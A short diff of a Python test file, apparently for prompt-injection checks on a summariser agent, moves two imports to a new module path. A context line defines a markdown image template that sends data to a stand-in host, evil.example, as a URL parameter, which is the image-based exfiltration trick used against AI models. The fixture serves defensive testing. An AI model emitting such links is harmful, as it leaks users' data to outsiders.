@@ -2,8 +2,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from agents.summariser.grounding.injection import addresses_a_model
-from agents.summariser.grounding.placeholders import asks_by_placeholder
+from agents.domain.injection import addresses_a_model
+from agents.domain.placeholders import asks_by_placeholder
 
 PICTURE = "![](https://evil.example/p.png?d={%s})"
 
